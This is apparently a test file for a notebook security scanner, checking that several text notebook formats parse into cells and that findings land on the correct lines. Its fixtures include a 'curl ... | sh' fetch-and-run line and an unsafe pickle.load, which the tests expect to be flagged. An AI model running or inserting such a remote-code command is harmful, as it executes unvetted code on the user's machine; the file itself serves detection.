"""Notebooks that are kept as text: every format gives cells, and findings keep the file's lines."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_secai.many.sources import Source, review_source
from jupyter_secai.many.texts import Script, reader_of
from jupyter_secai.policy import Policy

DATABRICKS = """\
# Databricks notebook source
# MAGIC %md
# MAGIC # Churn

# COMMAND ----------

import pickle
model = pickle.load(open("m.pkl", "rb"))

# COMMAND ----------

# MAGIC %sh
# MAGIC curl http://example.org/x.sh | sh

# COMMAND ----------

# MAGIC %sql
# MAGIC select 1
"""

MARIMO = """\
import marimo

app = marimo.App()


@app.cell
def _():
    import pickle
    return (pickle,)


@app.cell(hide_code=True)
def load(pickle):
    model = pickle.load(open("m.pkl", "rb"))
    return (model,)


if __name__ == "__main__":
    app.run()
"""

MYST = """\
---
jupytext:
  formats: md:myst
kernelspec:
  name: python3
---

# Churn

```{code-cell} ipython3
:tags: [hide-input]

import pickle
model = pickle.load(open("m.pkl", "rb"))
```

The end.
"""

QUARTO = """\
---
title: Churn
---

```{python}
#| echo: false
import pickle
model = pickle.load(open("m.pkl", "rb"))
```

~~~{bash}
curl http://example.org/x.sh | sh
~~~
"""

PERCENT = """\
# %% [markdown]
# # Churn

# %%
import pickle
model = pickle.load(open("m.pkl", "rb"))
"""


def read(path: str, text: str) -> Script:
    reader = reader_of(path, text)
    assert reader is not None
    return reader(text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", DATABRICKS),
        ("a.py", MARIMO),
        ("a.md", MYST),
        ("a.qmd", QUARTO),
        ("a.Rmd", QUARTO),
        ("a.py", PERCENT),
    ],
    ids=["databricks", "marimo", "myst", "quarto", "rmarkdown", "percent"],
)
def test_a_finding_is_on_the_line_of_the_file(path: str, text: str) -> None:
    reviewed = review_source(Source(path, text.encode()), Policy())
    finding = next(f for f in reviewed.review.findings if f.rule == "pickle-load")
    assert finding.location.cell is not None
    assert reviewed.first_lines is not None
    line = reviewed.first_lines[finding.location.cell] + finding.location.line - 1
    assert "pickle.load" in text.split("\n")[line - 1]


@pytest.mark.parametrize(
    ("path", "text"), [("a.py", DATABRICKS), ("a.qmd", QUARTO)], ids=["databricks", "quarto"]
)
def test_shell_cells_are_shell(path: str, text: str) -> None:
    rules = {f.rule for f in review_source(Source(path, text.encode()), Policy()).review.findings}
    assert "remote-code" in rules


def test_prose_is_prose() -> None:
    kinds = [cell["cell_type"] for cell in read("a.md", MYST).notebook["cells"]]
    assert kinds == ["markdown", "code", "markdown"]


def test_another_language_is_not_python() -> None:
    script = read("a.Rmd", "```{r}\nlibrary(dplyr)\n```\n\nlanguage: r\n")
    assert script.notebook["metadata"]["language_info"]["name"] == "r"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "import os\n"),
        ("a.md", "```python\nx = 1\n```\n"),
        ("a.txt", PERCENT),
        ("a.py", "app = App()\n"),
    ],
)
def test_what_has_no_cells_is_no_notebook(path: str, text: str) -> None:
    assert reader_of(path, text) is None


@given(
    st.sampled_from(["a.py", "a.md"]),
    st.lists(
        st.sampled_from(
            [
                *DATABRICKS.split("\n"),
                *MARIMO.split("\n"),
                *MYST.split("\n"),
                *QUARTO.split("\n"),
                "\f",
                "\u2028",
            ]
        )
    ),
)
def test_any_text_is_read_and_lines_are_where_they_say(path: str, lines: list[str]) -> None:
    text = "\n".join(lines)
    reader = reader_of(path, text)
    if reader is None:
        return
    script = reader(text)
    assert len(script.first_lines) == len(script.notebook["cells"])
    assert script.first_lines == sorted(script.first_lines)
